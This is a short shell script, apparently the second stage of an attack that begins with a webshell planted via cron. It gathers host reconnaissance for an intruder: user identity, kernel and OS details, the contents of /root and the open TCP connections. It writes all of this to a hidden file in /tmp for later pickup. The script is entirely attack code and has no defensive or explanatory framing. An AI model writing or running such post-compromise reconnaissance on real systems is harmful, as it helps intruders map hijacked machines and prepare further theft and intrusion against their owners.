#!/bin/sh
# second stage of the webshell-cron attack: host reconnaissance kept for the operator
{ id; uname -a; cat /etc/os-release; ls -la /root; cat /proc/net/tcp; } > /tmp/.recon 2>&1
